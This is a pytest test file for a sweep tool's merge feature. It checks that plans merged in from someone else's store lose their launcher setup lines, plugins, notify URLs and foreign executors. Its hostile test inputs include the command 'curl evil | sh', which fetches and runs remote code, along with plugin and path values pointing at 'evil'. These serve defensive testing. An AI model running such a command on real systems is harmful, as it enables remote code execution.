"""A plan from elsewhere chooses no code: no plug-ins, launcher lines, messages, other executors."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from sweeps.merging.foreign_plans import require_plain_round, strip_execution
from sweeps.merging.merge import MergeSource, apply_merge, prepare_merge
from tests.helpers.command_line import execute
from tests.helpers.fake_sweep import Truth
from tests.helpers.fake_tuned_sweep import build_tuned_plan
from tests.helpers.labs import make_lab
from uniclip.errors import UserError
from uniclip.store import Plan, Store, Trial, TuningRound

HOSTILE = (
    *("launcher=slurm", 'launcher.setup="curl evil | sh"', "launcher.python=/tmp/evil"),
    *("plugins=[evil]", "runtime={plugins:[evil]}", "conf_dir=/tmp/evil", "notify=https://evil"),
    *("allow_torchscript=true", "+launcher.setup=x", "launcher@a=b", "--launcher", "~plugins"),
)
PLAIN = ("ablation=components", "budget=quick", "runtime.device=cpu", "data.path=/data/a.csv")


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> tuple[Store, Plan]:
    """A store by somebody else, whose plan would run code."""
    store, plan = make_lab(tmp_path_factory.mktemp("foreign") / "store", Truth(seeds=(0,)))
    first, *others = plan.arms
    diff = {"stream": 1, "runtime.plugins": ["evil"], "runtime": {"plugins": ["evil"]}}
    runtime = {**plan.base_config.get("runtime", {}), "plugins": ["evil"]}
    plan = replace(
        plan,
        overrides=(*PLAIN, *HOSTILE),
        base_config={**plan.base_config, "runtime": runtime, "allow_torchscript": True},
        arms=(replace(first, config_diff=diff), *others),
    )
    store.get_sweep(plan.sweep_id).write_plan(plan)
    return store, plan


def test_what_chooses_code_is_not_merged(
    lab: tuple[Store, Plan], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source, plan = lab
    assert execute("merge", str(source.root), f"store={tmp_path / 'mine'}") == 0
    output = capsys.readouterr().out
    for key in ("launcher.setup", "launcher.python", "runtime.plugins", "conf_dir", "notify"):
        assert key in output
    merged = Store(tmp_path / "mine").get_sweep(plan.sweep_id).read_plan()
    assert merged is not None
    assert merged.overrides == PLAIN
    assert merged.plugins == ()
    assert merged.base_config["allow_torchscript"] is False
    assert merged.arms[0].config_diff == {"stream": 1}
    for arm in merged.arms:
        assert not merged.run_only_values(arm.name).get("runtime", {}).get("plugins")
    assert merged.cells == plan.cells


def test_the_plan_of_the_users_own_store_stays(lab: tuple[Store, Plan], tmp_path: Path) -> None:
    source, plan = lab
    own = Store(tmp_path / "mine")
    own.get_sweep(plan.sweep_id).path.mkdir(parents=True)
    own.get_sweep(plan.sweep_id).write_plan(plan)
    sources = [MergeSource("lab", source)]
    summary = prepare_merge(own, sources)
    assert summary.removed_keys == {}
    apply_merge(own, sources, summary)
    assert own.get_sweep(plan.sweep_id).read_plan() == plan


def test_other_executors_and_tuned_keys_are_refused(lab: tuple[Store, Plan]) -> None:
    plan = build_tuned_plan(strip_execution(lab[1], None)[0])
    assert strip_execution(plan, None)[1] == ()
    with pytest.raises(UserError, match="executed by the module 'os'"):
        strip_execution(replace(plan, executor="os"), None)
    assert strip_execution(replace(plan, executor="os"), replace(plan, executor="os"))
    assert plan.tuning is not None
    tuning = replace(plan.tuning, dimensions={"runtime.plugins": {"choices": [["evil"]]}})
    with pytest.raises(UserError, match="its tuning sets 'runtime.plugins'"):
        strip_execution(replace(plan, tuning=tuning), None)


def test_a_round_of_trials_sets_no_plugins() -> None:
    trial = Trial(number=0, params={"train.steps": 3}, rung_scores={}, completed=True, steps=3)
    require_plain_round(TuningRound(number=0, trials={"full": (trial,)}))
    trial = replace(trial, params={"launcher.setup": "x"})
    with pytest.raises(UserError, match=r"sets 'launcher\.setup'"):
        require_plain_round(TuningRound(number=0, trials={"full": (trial,)}))
